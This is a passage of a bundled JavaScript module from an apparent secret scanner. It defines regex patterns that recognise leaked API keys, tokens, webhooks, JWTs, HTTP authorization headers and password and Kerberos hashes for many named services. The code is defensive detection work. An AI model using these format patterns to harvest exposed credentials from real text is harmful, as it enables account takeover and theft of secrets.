    { name: 'infracost', patterns: [token('infracost-key', 'ico-[A-Za-z0-9]{32}')] },
    { name: 'intra42', patterns: [token('intra42-secret', 's-s4t2(?:ud|af)-[a-f0-9]{64}')] },
    { name: 'maxmind', patterns: [token('maxmind-license-key', '[A-Za-z0-9]{6}_[A-Za-z0-9]{29}_mmk', '_mmk')] },
    { name: 'rapidapi', patterns: [token('rapidapi-key', '[a-z0-9]{10}msh[a-z0-9]{15}p1[a-z0-9]{5,6}jsn[a-z0-9]{12}', 'msh')] },
    { name: 'scalingo', patterns: [token('scalingo-token', 'tk-us-[\\w-]{48}')] },
    { name: 'settlemint', patterns: [token('settlemint-token', 'sm_(?:aat|pat|sat)_[A-Za-z0-9]{16}')] },
    { name: 'rootly', patterns: [token('rootly-key', 'rootly_[a-f0-9]{64}')] },
    { name: 'onesignal', patterns: [token('onesignal-key', 'os_v2_(?:app|org)_[a-z0-9]{100,110}')] },
    { name: 'dbt', patterns: [token('dbt-token', 'dbt[cus]_[A-Za-z0-9]{38,60}', 'dbtc_', 'dbtu_', 'dbts_')] },
    { name: 'deno', patterns: [token('deno-token', 'dd[op]_[A-Za-z0-9]{36}', 'ddo_', 'ddp_')] },
    { name: 'endor', patterns: [token('endor-key', 'endr\\+[A-Za-z0-9-]{16}')] },
    { name: 'lichess', patterns: [token('lichess-token', 'li[po]_[A-Za-z0-9]{20}', 'lip_', 'lio_')] },
    { name: 'nightfall', patterns: [mixed(token('nightfall-key', 'NF-[A-Za-z0-9]{32}'))] },
    { name: 'packagist', patterns: [token('packagist-token', 'packagist_(?:uut|ack|acs|oat|out|ort)_[a-f0-9]{68}')] },
    { name: 'portainer', patterns: [token('portainer-token', 'ptr_[A-Za-z0-9+/]{43}=')] },
    { name: 'retool', patterns: [token('retool-token', 'retool_01[a-z0-9]{24}')] },
    { name: 'scrapfly', patterns: [token('scrapfly-key', 'scp-(?:live|test)-[a-f0-9]{32}')] },
    { name: 'thunderstore', patterns: [token('thunderstore-token', 'tss_[A-Za-z0-9]{32,40}')] },
    { name: 'trello', patterns: [token('trello-token', 'ATTA[a-f0-9]{64}[A-F0-9a-f]{8}')] },
    { name: 'unkey', patterns: [mixed(token('unkey-key', 'unkey_[A-Za-z0-9]{20,32}'))] },
    { name: 'val-town', patterns: [token('val-town-token', 'vtwn_[A-Za-z0-9]{30,50}')] },
    { name: 'vercel-blob', patterns: [token('vercel-blob-token', 'vercel_blob_rw_[A-Za-z0-9]{16}_[A-Za-z0-9]{30}')] },
    { name: 'wakatime', patterns: [token('wakatime-key', `waka_(?:tok_|sec_|ref_)?(?:${uuid}|[A-Za-z0-9]{80})`)] },
    { name: 'workato', patterns: [token('workato-token', 'wrk(?:us|eu|jp|sg|au|il|aus|aeu|ajp|asg)-[A-Za-z0-9-]{40,120}', 'wrk')] },
    { name: 'zuplo', patterns: [token('zuplo-key', 'zpka_[a-f0-9]{32}_[a-f0-9]{8}')] },
    { name: 'hcaptcha', patterns: [token('hcaptcha-secret', 'ES_[a-f0-9]{32}')] },
    { name: 'boundary', patterns: [token('boundary-token', 'at_[A-Za-z0-9]{10}_s1[A-Za-z0-9]{80,400}')] },
    { name: 'dotenv-vault', patterns: [token('dotenv-vault-key', '(?:vlt|key)_[a-f0-9]{64}', 'vlt_', 'key_')] },
    { name: 'axiom', patterns: [token('axiom-token', `xa[ap]t-${uuid}`, 'xaat-', 'xapt-')] },
    { name: 'firehydrant', patterns: [token('firehydrant-token', 'fhb-[a-f0-9]{32}')] },
    {
        name: 'percy',
        patterns: [token('percy-token', '(?:web|app|auto|ss|generic)_[a-f0-9]{64}', 'web_', 'app_', 'auto_', 'ss_', 'generic_')],
    },
    { name: 'chromatic', patterns: [token('chromatic-token', 'chpt_[a-f0-9]{12,20}')] },
    { name: 'mergify', patterns: [mixed(token('mergify-key', 'mka_[\\w-]{32,80}'))] },
    { name: 'ubidots', patterns: [mixed(token('ubidots-token', 'BBF[FU]-[A-Za-z0-9]{30}', 'bbff-', 'bbfu-'))] },
    { name: 'ngrok', patterns: [mixed(named('ngrok-token', 'ngrok|authtoken', '[12][A-Za-z0-9]{20,28}_[A-Za-z0-9]{18,24}'))] },
    { name: 'meraki', patterns: [named('meraki-key', 'meraki', '[a-f0-9]{40}')] },
    { name: 'shortcut', patterns: [named('shortcut-token', 'shortcut|clubhouse', uuid, 'shortcut', 'clubhouse')] },
    { name: 'statuspage', patterns: [named('statuspage-key', 'statuspage|status_page', uuid)] },
    { name: 'nango', patterns: [named('nango-key', 'nango', uuid)] },
    { name: 'squarespace', patterns: [named('squarespace-key', 'squarespace', uuid)] },
    { name: 'ionic', patterns: [mixed(token('ionic-token', 'ion_[A-Za-z0-9]{42}'))] },
    { name: 'looker', patterns: [named('looker-secret', 'looker[\\w .-]{0,20}?secret', '[A-Za-z0-9]{24}', 'looker')] },
    { name: 'zerotier', patterns: [mixed(named('zerotier-token', 'zerotier', '[A-Za-z0-9]{32}'))] },
    {
        name: 'named-hexadecimal',
        patterns: [
            // Providers whose keys are hexadecimal digits and nothing else: the name beside it must say whose, and that it is one.
            named('service-key', '(?:amplitude|assemblyai|bitly|bybit|cloudsmith|codeship|cronitor|crowdin|finicity|flickr|freshbooks|infura|iterable|kucoin|linear|lokalise|mailerlite|mixpanel|novu|pipedrive|proctorio|sendbird|shodan|tines|virustotal|webflow|zeplin)[\\w .-]{0,20}?(?:token|key|secret)', '[a-f0-9]{24,80}', 'amplitude', 'assemblyai', 'bitly', 'bybit', 'cloudsmith', 'codeship', 'cronitor', 'crowdin', 'finicity', 'flickr', 'freshbooks', 'infura', 'iterable', 'kucoin', 'linear', 'lokalise', 'mailerlite', 'mixpanel', 'novu', 'pipedrive', 'proctorio', 'sendbird', 'shodan', 'tines', 'virustotal', 'webflow', 'zeplin'),
        ],
    },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/forges.js


/** Where code is kept, built, judged and published. */
const forges = [
    {
        // docs.gitlab.com/security/tokens, "Token prefixes".
        name: 'gitlab',
        patterns: [
            token('gitlab-token', 'gl(?:pat|dt|rt|rtr|ft|soat|ffct)-[\\w-]{20,300}(?:\\.[0-9a-z]{2}\\.[0-9a-z]{7,9})?', 'glpat-', 'gldt-', 'glrt', 'glft-', 'glsoat-', 'glffct-'),
            token('gitlab-job-token', 'glcbt-(?:[0-9a-zA-Z]{1,5}_)?[\\w-]{20,64}'),
            token('gitlab-trigger-token', 'glptt-[0-9a-f]{40}'),
            token('gitlab-mail-token', 'glimt-[\\w-]{25}'),
            token('gitlab-agent-token', 'glagent-[\\w-]{50,1024}'),
            token('gitlab-oauth-secret', 'gloas-[0-9a-f]{64}'),
            token('gitlab-workspace-token', 'glwt-[\\w-]{20,64}'),
            token('gitlab-runner-registration-token', 'GR1348941[\\w-]{20}'),
            token('gitlab-session', '_gitlab_session=[0-9a-z]{32}'),
        ],
    },
    {
        name: 'github',
        patterns: [
            named('github-token', `${secretOf('github')}|gh[_. -]?token`, '[a-f0-9]{40}', 'github', 'gh'),
            named('oauth-client-secret', 'client[_. -]?secret', '[a-f0-9]{40}', 'client'),
            token('github-refresh-token', 'ghr_[A-Za-z0-9]{76}'),
        ],
    },
    {
        name: 'atlassian',
        patterns: [
            token('atlassian-token', 'ATATT3[\\w=-]{150,260}'),
            token('bitbucket-token', 'ATCTT3[\\w=-]{150,260}'),
            token('bitbucket-app-password', 'ATBB[A-Za-z0-9]{32}'),
            mixed(named('atlassian-token', secretOf('atlassian|jira|confluence'), '[A-Za-z0-9]{24}', 'atlassian', 'jira', 'confluence')),
            mixed(named('bitbucket-client-secret', secretOf('bitbucket'), '[\\w=-]{32,64}', 'bitbucket')),
        ],
    },
    {
        name: 'circleci',
        patterns: [
            token('circleci-token', 'CCIP(?:AT|RJ)_[A-Za-z0-9]{22}_[a-f0-9]{40}'),
            named('circleci-token', secretOf('circle'), '[a-f0-9]{40}', 'circle'),
        ],
    },
    {
        name: 'buildkite',
        patterns: [token('buildkite-token', 'bk(?:ua|ct|at|pt|ua)_[A-Za-z0-9]{40,64}', 'bkua_', 'bkct_', 'bkat_', 'bkpt_')],
    },
    { name: 'travis', patterns: [mixed(named('travis-token', secretOf('travis'), '[\\w-]{22}', 'travis'))] },
    { name: 'drone', patterns: [named('drone-token', 'drone[_. -]?(?:server[_. -]?)?token', '[A-Za-z0-9]{32}', 'drone')] },
    {
        name: 'jenkins',
        patterns: [
            named('jenkins-token', 'jenkins|crumb', '(?:[a-f0-9]{32}|11[a-f0-9]{32}|[a-f0-9]{64})', 'jenkins', 'crumb'),
            tokenAfter('jenkins-setup-password', 'password to proceed to installation:\\s{1,10}', '[a-f0-9]{32}', 'proceed to installation'),
            named('jenkins-setup-password', 'initial[_. -]?admin[_. -]?password', '[a-f0-9]{32}', 'initial'),
        ],
    },
    { name: 'teamcity', patterns: [token('teamcity-token', 'eyJ0eXAiOiAiVENWMiJ9\\.[\\w-]{20,100}\\.[\\w-]{30,100}')] },
    {
        name: 'codeclimate',
        patterns: [
            named('codeclimate-reporter-id', 'cc_test_reporter_id|codeclimate|code_climate', '[a-f0-9]{64}', 'cc_test', 'codeclimate', 'code_climate'),
        ],
    },
    { name: 'codecov', patterns: [named('codecov-token', 'codecov', `(?:${uuid}|[a-f0-9]{32})`, 'codecov')] },
    { name: 'coveralls', patterns: [mixed(named('coveralls-token', 'coveralls|repo_token', '[A-Za-z0-9]{32,37}'))] },
    {
        name: 'sonar',
        patterns: [
            token('sonar-token', 'sq[upa]_[a-f0-9]{40}', 'squ_', 'sqp_', 'sqa_'),
            named('sonar-token', secretOf('sonar'), '[a-f0-9]{40}', 'sonar'),
        ],
    },
    {
        name: 'snyk',
        patterns: [named('snyk-token', 'snyk', uuid, 'snyk'), token('snyk-token', 'snyk_(?:uat|sat)\\.[a-f0-9]{8}\\.[\\w.-]{60,400}')],
    },
    {
        name: 'sourcegraph',
        patterns: [
            token('sourcegraph-token', 'sgp_(?:(?:[a-fA-F0-9]{16}|local)_)?[a-fA-F0-9]{40}'),
            token('sourcegraph-token', 'sgd_[a-fA-F0-9]{64}'),
            token('sourcegraph-license-key', 'slk_[a-f0-9]{64}'),
            named('sourcegraph-token', `${secretOf('sourcegraph')}|src_access_token`, '[a-f0-9]{40}', 'sourcegraph', 'src_access'),
        ],
    },
    { name: 'postman', patterns: [token('postman-key', 'PMAK-[a-f0-9]{24}-[a-f0-9]{34}')] },
    { name: 'stackhawk', patterns: [token('stackhawk-key', 'hawk\\.[\\w-]{20}\\.[\\w-]{20}')] },
    { name: 'dependency-track', patterns: [token('dependency-track-key', 'odt_(?:[A-Za-z0-9]{8}_)?[A-Za-z0-9]{32,64}')] },
    {
        name: 'npm',
        patterns: [
            token('npm-token', 'npm_[A-Za-z0-9]{36}'),
            named('npm-token', ':_authtoken', '(?:[\\w-]{20,200}|npm_[\\w-]{20,100})={0,2}', '_authtoken'),
            encoded(named('npm-password', ':_password|:_auth', '[A-Za-z0-9+/]{8,200}={0,2}')),
            encoded(named('npm-password', '(?:^|\\n)_auth', '[A-Za-z0-9+/]{8,200}={0,2}', '_auth')),
        ],
    },
    { name: 'pypi', patterns: [token('pypi-token', 'pypi-Ag[\\w-]{50,1000}')] },
    { name: 'rubygems', patterns: [token('rubygems-key', 'rubygems_[a-f0-9]{48}')] },
    { name: 'nuget', patterns: [token('nuget-key', 'oy2[a-z0-9]{43}')] },
    { name: 'crates', patterns: [token('crates-token', 'cio[A-Za-z0-9]{32}')] },
    { name: 'clojars', patterns: [token('clojars-token', 'CLOJARS_[a-f0-9]{60}')] },
    { name: 'gradle', patterns: [named('gradle-publish-secret', 'gradle\\.publish\\.(?:key|secret)', '[\\w-]{30,70}', 'gradle.publish.')] },
    { name: 'readme', patterns: [token('readme-key', 'rdme_[a-z0-9]{70}')] },
];

// EXTERNAL MODULE: ./lib/credentials/jwt.js
var jwt = __webpack_require__(6303);
// EXTERNAL MODULE: ./lib/credentials/published.js
var published = __webpack_require__(9560);
;// CONCATENATED MODULE: ./lib/credentials/pack/generic.js




/** RFC 7519 in its compact form, with a signature. The one that the standard's own pages show is no credential. */
const generic_jwt = {
    kind: 'jwt',
    anchors: ['eyj', 'eya', 'ewo', 'ew0', 'ewk'],
    *find(text) {
        for (const { 0: written, index } of text.matchAll(jwt/* jwtForm */.uo)) {
            if ((0,jwt/* isJwt */.ky)(written) && !(0,jwt/* isPublicJwt */.ls)(written))
                yield { start: index, end: index + written.length };
        }
    },
};
/** RFC 7617: the user and the password in base64. */
const basicAuthorization = {
    kind: 'basic-authorization',
    anchors: ['basic '],
    alsoFinds: loginKinds,
    *find(text) {
        for (const span of matches(text, /\bauthorization["'\]]{0,2}\s?[:=,\s]\s{0,2}["'`]?basic ([A-Za-z0-9+/]{6,400}={0,2})(?![\w=])/dgi)) {
            const decoded = Buffer.from(text.slice(span.start, span.end), 'base64').toString('latin1');
            const [user = '', password = ''] = /^([\x20-\x7e]{1,100}?):([\x20-\x7e]{1,200})$/.exec(decoded)?.slice(1) ?? [];
            const found = loginAt([span.start, span.end], password, user);
            if (found !== null && !(0,published/* isPublished */.H)(decoded))
                yield found;
        }
    },
};
/** RFC 6750; some servers have the word `token` in its place. */
const bearer = '[aA]uthorization["\'\\]]{0,2}\\s?[:=,\\s]\\s{0,2}["\'`]?(?:[bB]earer|[tT]oken) ';
/** Names that tell in the query of a URL alone. */
const generic_inQuery = ['auth=', 'secret=', 'password=', 'passwd=', 'token='];
/** How crypt(5) marks its schemes. */
const schemes = ['1', 'apr1', '5', '6', 'y', '7', '8', '9', 'sha1', 'gy'].map((scheme) => `$${scheme}$`);
const generic = [
    { name: 'jwt', patterns: [generic_jwt] },
    {
        name: 'http',
        patterns: [
            basicAuthorization,
            mixed(needing(['authorization'], tokenAfter('bearer-token', bearer, '[\\w.~+/-]{20,400}={0,2}', 'bearer', 'token'))),
            needing(['authorization'], tokenAfter('bearer-token', bearer, '[a-f0-9]{32,128}', 'bearer', 'token')),
            tokenAfter('access-token', '[?&\\s"\'](?:access_token|auth_token|private_token|api_key|apikey|client_secret)=', '[a-f0-9]{32,128}', '_token=', 'api_key=', 'apikey=', 'client_secret='),
            mixed(tokenAfter('access-token', '[?&\\s"\'](?:access_token|auth_token|private_token|api_key|apikey|client_secret)=', '[\\w.-]{20,400}', '_token=', 'api_key=', 'apikey=', 'client_secret=')),
            // The query of a URL, in which a name alone tells.
            needing(generic_inQuery.flatMap((name) => [`?${name}`, `&${name}`]), tokenAfter('access-token', 'https?://[^\\s"\'`<>]{1,300}[?&](?:auth|secret|password|passwd|token)=', '[a-f0-9]{32,128}', ...generic_inQuery)),
            mixed(named('api-key', 'x-api-key|apikey|api-key|x-auth-token|private-token', '[\\w.~+/-]{20,200}={0,2}')),
        ],
    },
    {
        // crypt(5): each scheme has a prefix of its own.
        name: 'password-hash',
        patterns: [
            token('password-hash', '(?<![\\w$])\\$2[abxy]?\\$\\d{2}\\$[./A-Za-z0-9]{53}', '$2'),
            needing(schemes, token('password-hash', '(?<![\\w$])\\$(?:1|apr1|5|6|y|7|8|9|sha1|gy)\\$(?:rounds=\\d{1,9}\\$)?[./A-Za-z0-9]{1,40}\\$(?:[./A-Za-z0-9]{1,40}\\$)?[./A-Za-z0-9]{20,86}', '$')),
            token('password-hash', '(?<![\\w$])\\$argon2(?:id|i|d)\\$v=\\d{1,3}\\$[mtp=,\\d]{8,40}\\$[A-Za-z0-9+/]{8,90}\\$[A-Za-z0-9+/]{16,200}', '$argon2'),
            token('password-hash', 'pbkdf2_sha(?:1|256|512)\\$\\d{1,9}\\$[\\w./+]{1,40}\\$[A-Za-z0-9+/]{20,90}={0,2}', 'pbkdf2_sha'),
            token('kerberos-hash', '\\$krb5(?:asrep|tgs|pa)\\$\\d{1,2}\\$(?:[^\\s:$]{1,120}[:$]){0,4}[a-f0-9]{32}\\$[a-f0-9]{64,4000}', '$krb5'),
        ],
    },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/literals.js
/** Room for four characters of five bits: capitals and small letters share a slot. */
const slots = 1 << 20;
/** The last two of them. */
const pairs = 1 << 10;
/** Shorter literals are told by their runs of two. */
const literals_longRun = 4;
/**
 * Which of many literals a text holds. One pass notes which runs of four characters and of two occur; only a literal all of whose runs do is
 * then searched for, so that hundreds of literals cost little more than one.
 */
class LiteralSet {
    #literals;
    /** The slots of all literals, one behind the other; in a table, as a snapshot with thousands of small lists would start later. */
    #runs;
    /** Where the slots of each literal end. */
    #ends;
    /** @param literals in lower case */
    constructor(literals) {
        this.#literals = [...new Set(literals)];
        const runs = this.#literals.map((text) => runsOf(text, text.length < literals_longRun ? 2 : literals_longRun));
        this.#runs = Int32Array.from(runs.flat());
        let end = 0;
        this.#ends = Int32Array.from(runs, ({ length }) => (end += length));
    }
    /** Those that stand in the text, in whatever case. `lower` is the same text in lower case. */
    in(text, lower = text.toLowerCase()) {
        const seen = new Uint8Array(sizeFor(text));
        const seenPairs = new Uint8Array(pairs);
        const mask = seen.length - 1;
        // Written out, and without functions, as this is most of what a small file costs before V8 has compiled it.
        for (let at = 0, slot = 0; at < text.length; at++) {
            slot = ((slot << 5) | (text.charCodeAt(at) & 31)) & (slots - 1);
            seen[slot & mask] = 1;
            seenPairs[slot & (pairs - 1)] = 1;
        }
        const [literals, runs, ends, found] = [
            this.#literals,
            this.#runs,
            this.#ends,
            [],
        ];
        for (let at = 0, run = 0; at < literals.length; at++) {
            const literal = literals[at] ?? '';
            const end = ends[at] ?? 0;
            if (literal.length < literals_longRun)
                while (run < end && seenPairs[(runs[run] ?? 0) & (pairs - 1)] === 1)
                    run++;
            else
                while (run < end && seen[(runs[run] ?? 0) & mask] === 1)
                    run++;
            if (run === end && lower.includes(literal))
                found.push(literal);
            run = end;
        }
        return found;
    }
}
/** Slots share a place in a small table: then a literal may be searched for in vain. */
const sizeFor = ({ length }) => Math.min(slots, 4 << (32 - Math.clz32(length)));
/** One slot for each so many characters in a row. */
function runsOf(text, length) {
    const found = [];
    let slot = 0;
    for (let at = 0; at < text.length; at++) {
        slot = ((slot << 5) | (text.charCodeAt(at) & 31)) & (slots - 1);
        if (at >= length - 1)
            found.push(slot);
    }
    return found;
}

;// CONCATENATED MODULE: ./lib/credentials/pack/messaging.js




/** Found by its end, as hexadecimal digits are everywhere and two short groups of them behind dashes are not. */
const mailgunSigned = {
    kind: 'mailgun-key',
    anchors: ['-'],
    mayFind: (text) => inRun(text, ['-'], 50),
    *find(text) {
        for (const { index, 0: end } of text.matchAll(/-[a-f0-9]{8}-[a-f0-9]{8}(?![\w-])/g)) {
            const start = index - 32;
            if (/^[^\w-]?[a-f0-9]{32}$/.test(text.slice(Math.max(0, start - 1), index)) && !(0,placeholder/* isPlaceholderToken */.Bt)(text.slice(start, index)))
                yield { start, end: index + end.length };
        }
    },
};
/** Nearly every digest has a colon before it. */
const telegram = {
    ...token('telegram-bot-token', '(?:bot)?\\d{6,16}:A[\\w-]{33,34}', ':a'),
    mayFind: ({ text, runs }) => runs.some(({ start, end }) => end - start >= 34 && text.startsWith(':A', start - 1)),
};
/** Chat, telephone and mail. A webhook's URL is its own password. */
const messaging = [
    {
        name: 'slack',
        patterns: [
            token('slack-token', 'xox[abdeoprs]-(?:\\d{1,20}-){1,4}[A-Za-z0-9]{10,200}', 'xox'),
            token('slack-token', 'xox[cbdaop]-\\d{10,13}-[A-Za-z0-9-]{18,100}', 'xox'),
            token('slack-token', 'xoxe(?:\\.xox[bp])?-\\d-[A-Za-z0-9]{100,300}', 'xoxe'),
            token('slack-token', 'xox[pb]\\.xox[bp]-\\d-[A-Za-z0-9]{100,300}', 'xox'),
            token('slack-app-token', 'xapp-\\d-[A-Z0-9]{8,14}-\\d{10,14}-[a-f0-9]{64}'),
            token('slack-webhook', 'hooks\\.slack\\.com/(?:services|workflows|triggers)/[A-Z0-9][A-Za-z0-9]{5,14}/[A-Z0-9]{8,14}/[A-Za-z0-9]{12,60}(?:/[A-Za-z0-9]{20,40})?', 'hooks.slack.com/'),
        ],
    },
    {
        name: 'teams',
        patterns: [
            token('teams-webhook', `(?:[\\w-]{1,60}\\.webhook\\.office\\.com/webhookb2|outlook\\.office(?:365)?\\.com/webhook)/${uuid}@${uuid}/[A-Za-z0-9]{1,40}/[a-f0-9]{32}/${uuid}`, '.office'),
            token('teams-workflow', 'logic\\.azure\\.com(?::443)?/workflows/[a-f0-9]{32}/triggers/[^\\s"\'<>]{1,200}[?&]sig=[\\w-]{43}', 'logic.azure.com'),
        ],
    },
    {
        name: 'discord',
        patterns: [
            token('discord-webhook', 'discord(?:app)?\\.com/api/(?:v\\d{1,2}/)?webhooks/\\d{17,20}/[\\w-]{60,68}', '/webhooks/'),
            mixed(behind(['.'], 27, token('discord-bot-token', '[MNO][A-Za-z\\d_-]{23,27}\\.[\\w-]{6}\\.[\\w-]{27,40}', '.'))),
        ],
    },
    { name: 'telegram', patterns: [telegram] },
    {
        name: 'twilio',
        patterns: [
            token('twilio-api-key', 'SK[a-f0-9]{32}', 'sk'),
            behind(['"', "'"], 32, tokenAfter('twilio-auth-token', '\\bAC[a-f0-9]{32}["\']\\s?,\\s{0,4}["\']', '[a-f0-9]{32}', 'ac')),
            named('twilio-auth-token', 'twilio|auth[_. -]?token', '[a-f0-9]{32}', 'twilio', 'auth'),
        ],
    },
    {
        name: 'mattermost',
        patterns: [named('mattermost-token', 'mattermost', '[a-z0-9]{26}'), token('mattermost-webhook', '/hooks/[a-z0-9]{26}', '/hooks/')],
    },
    {
        name: 'dingtalk',
        patterns: [token('dingtalk-webhook', 'oapi\\.dingtalk\\.com/robot/send\\?access_token=[a-f0-9]{64}', 'oapi.dingtalk.com')],
    },
    { name: 'wecom', patterns: [token('wecom-webhook', `qyapi\\.weixin\\.qq\\.com/cgi-bin/webhook/send\\?key=${uuid}`, 'qyapi.weixin')] },
    {
        name: 'feishu',
        patterns: [token('feishu-webhook', `open\\.(?:feishu\\.cn|larksuite\\.com)/open-apis/bot/v2/hook/${uuid}`, '/open-apis/bot/')],
    },
    { name: 'sendgrid', patterns: [token('sendgrid-key', 'SG\\.[\\w-]{16,32}\\.[\\w-]{16,64}')] },
    {
        name: 'mailgun',
        patterns: [token('mailgun-key', '(?:key|pubkey)-[a-f0-9]{32}', 'key-'), mailgunSigned],
    },
    { name: 'mailchimp', patterns: [token('mailchimp-key', '[a-f0-9]{32}-us\\d{1,2}', '-us'), token('mandrill-key', 'md-[\\w-]{22}')] },
    { name: 'brevo', patterns: [token('brevo-key', 'x(?:keysib|smtpsib)-[a-f0-9]{64}-[A-Za-z0-9]{16}', 'xkeysib-', 'xsmtpsib-')] },
    { name: 'postmark', patterns: [named('postmark-token', 'postmark', uuid)] },
    { name: 'resend', patterns: [mixed(token('resend-key', 're_[A-Za-z0-9]{8}_[A-Za-z0-9]{20,30}'))] },
    { name: 'mailersend', patterns: [token('mailersend-key', 'mlsn\\.[a-f0-9]{64}')] },
    { name: 'mailjet', patterns: [named('mailjet-secret', secretOf('mailjet'), '[a-f0-9]{32}', 'mailjet')] },
    { name: 'sparkpost', patterns: [named('sparkpost-key', 'sparkpost', '[a-f0-9]{40}')] },
    { name: 'nexmo', patterns: [mixed(named('nexmo-secret', secretOf('nexmo|vonage'), '[A-Za-z0-9]{16}', 'nexmo', 'vonage'))] },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/models.js


/** Language models, search and data for them. */
const models = [
    {
        name: 'openai',
        patterns: [token('openai-key', 'sk-(?:proj|svcacct|admin|None)-[\\w-]{20,100}T3BlbkFJ[\\w-]{20,100}', 't3blbkfj')],
    },
    {
        name: 'anthropic',
        patterns: [token('anthropic-key', 'sk-ant-[a-z]{3,5}\\d{2}-[\\w-]{80,130}'), mixed(token('anthropic-key', 'sk-ant-[\\w-]{32,130}'))],
    },
    { name: 'huggingface', patterns: [token('huggingface-token', '(?:hf_|api_org_)[A-Za-z]{34}', 'hf_', 'api_org_')] },
    { name: 'cohere', patterns: [mixed(named('cohere-key', 'cohere', '[A-Za-z0-9]{40}'))] },
    { name: 'replicate', patterns: [token('replicate-token', 'r8_[A-Za-z0-9]{37}')] },
    { name: 'perplexity', patterns: [token('perplexity-key', 'pplx-[A-Za-z0-9]{48}')] },
    { name: 'xai', patterns: [token('xai-key', 'xai-[A-Za-z0-9_]{70,85}')] },
    { name: 'mistral', patterns: [mixed(named('mistral-key', 'mistral', '[A-Za-z0-9]{32}'))] },
    { name: 'openrouter', patterns: [token('openrouter-key', 'sk-or-v1-[a-f0-9]{64}')] },
    { name: 'deepseek', patterns: [token('deepseek-key', 'sk-[a-f0-9]{32}')] },
    { name: 'fireworks', patterns: [mixed(token('fireworks-key', 'fw_[A-Za-z0-9]{22,24}'))] },
    { name: 'tavily', patterns: [token('tavily-key', 'tvly-(?:dev-|prod-)?[A-Za-z0-9-]{16,60}')] },
    { name: 'firecrawl', patterns: [token('firecrawl-key', 'fc-[a-f0-9]{32}')] },
    { name: 'jina', patterns: [token('jina-key', 'jina_[A-Za-z0-9_-]{50,70}')] },
    { name: 'pinecone', patterns: [token('pinecone-key', 'pcsk_[A-Za-z0-9_]{60,75}')] },
    { name: 'langsmith', patterns: [token('langsmith-key', 'ls(?:v2_(?:pt|sk)_[a-f0-9]{32}_[a-f0-9]{10}|__[a-f0-9]{32})', 'lsv2_', 'ls__')] },
    { name: 'wandb', patterns: [named('wandb-key', 'wandb|weights[_. -]?biases', '[a-f0-9]{40}', 'wandb', 'weights')] },
    { name: 'nvidia', patterns: [token('nvidia-key', 'nvapi-[\\w-]{64}')] },
    { name: 'elevenlabs', patterns: [token('elevenlabs-key', 'sk_[a-f0-9]{48}')] },
    { name: 'deepgram', patterns: [named('deepgram-key', 'deepgram', '[a-f0-9]{40}')] },
    { name: 'voyage', patterns: [mixed(token('voyage-key', 'pa-[\\w-]{43}'))] },
    { name: 'e2b', patterns: [token('e2b-key', 'e2b_[a-f0-9]{40}')] },
    { name: 'brave', patterns: [mixed(token('brave-key', 'BSA[\\w-]{28}'))] },
    { name: 'serpapi', patterns: [named('serpapi-key', secretOf('serp'), '[a-f0-9]{64}', 'serp')] },
    { name: 'cerebras', patterns: [token('cerebras-key', 'csk-[a-z0-9]{48}')] },
    { name: 'anyscale', patterns: [mixed(token('anyscale-key', 'esecret_[A-Za-z0-9]{24,40}'))] },
    { name: 'friendli', patterns: [mixed(token('friendli-key', 'flp_[A-Za-z0-9]{44,48}'))] },
    { name: 'together', patterns: [token('together-key', 'tgp_v1_[\\w-]{43}')] },
    { name: 'runpod', patterns: [token('runpod-key', 'rpa_[A-Z0-9]{40,46}')] },
    { name: 'modal', patterns: [mixed(token('modal-secret', 'as-[A-Za-z0-9]{22}'))] },
    { name: 'langfuse', patterns: [token('langfuse-key', `sk-lf-${uuid}`)] },
    { name: 'stability', patterns: [mixed(named('stability-key', 'stability', 'sk-[A-Za-z0-9]{48}'))] },
    { name: 'exa', patterns: [named('exa-key', 'exa(?:[_. -]?api)?[_. -]?key', uuid, 'exa')] },
    {
        name: 'databricks',
        patterns: [token('databricks-token', 'dapi[a-f0-9]{32}(?:-\\d)?'), token('databricks-oauth-secret', 'dose[a-f0-9]{32}')],
    },
    {
        name: 'snowflake',
        patterns: [unsurveyed(named('snowflake-password', 'snowflake[_. -]?(?:password|pat|token)', '\\S{8,80}', 'snowflake'))],
    },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/monitoring.js


/** Metrics, logs, errors and alarms. */
const monitoring = [
    {
        name: 'datadog',
        patterns: [named('datadog-key', 'datadog|dd[_. -]?api|dd[_. -]?app|ddog', '(?:[a-f0-9]{32}|[a-f0-9]{40})', 'datadog', 'dd')],
    },
    {
        // docs.newrelic.com, "New Relic API keys".
        name: 'newrelic',
        patterns: [
            token('newrelic-user-key', 'NRAK-[A-Z0-9]{27}'),
            token('newrelic-admin-key', 'NRAA-[a-f0-9]{27}'),
            token('newrelic-ingest-key', 'NR(?:II|IQ)-[\\w-]{32}', 'nrii-', 'nriq-'),
            token('newrelic-rest-key', 'NRRA-[a-f0-9]{42}'),
            token('newrelic-browser-key', 'NR(?:JS|BR)-[a-f0-9]{19,24}', 'nrjs-', 'nrbr-'),
            token('newrelic-synthetics-key', 'NRSP-[a-z]{2}\\d{2}[A-Za-z0-9]{31,35}'),
            token('newrelic-license-key', '[a-f0-9]{36}NRAL', 'nral'),
            token('newrelic-license-key', '(?:eu|gov)[0-9a-f]{2}xx[a-f0-9]{30,36}(?:NRAL)?', 'xx'),
            named('newrelic-license-key', 'new[_. -]?relic|license[_. -]?key', '(?:[a-f0-9]{40}|[a-f0-9]{47})', 'relic', 'license'),
            token('pixie-key', `px-(?:api|dep)-${uuid}`),
        ],
    },
    {
        name: 'sentry',
        patterns: [
            token('sentry-token', 'sntrys_eyJ[\\w+/=-]{60,500}_[\\w+/-]{43}'),
            token('sentry-token', 'sntryu_[a-f0-9]{64}'),
            named('sentry-token', secretOf('sentry'), '[a-f0-9]{64}', 'sentry'),
            behind(['://'], 32, token('sentry-dsn', 'https?://[a-f0-9]{32}:[a-f0-9]{32}@[\\w.-]{1,60}/\\d{1,16}', '://')),
        ],
    },
    { name: 'dynatrace', patterns: [token('dynatrace-token', 'dt0[a-zA-Z]\\d{2}\\.[A-Z0-9]{24}\\.[A-Z0-9]{64}')] },
    {
        name: 'grafana',
        patterns: [
            token('grafana-service-account-token', 'glsa_[A-Za-z0-9]{32}_[a-fA-F0-9]{8}'),
            token('grafana-cloud-token', 'glc_[A-Za-z0-9+/]{32,400}={0,2}'),
            token('grafana-api-key', 'eyJrIjoi[A-Za-z0-9+/]{60,200}={0,2}'),
        ],
    },
    {
        name: 'honeycomb',
        patterns: [
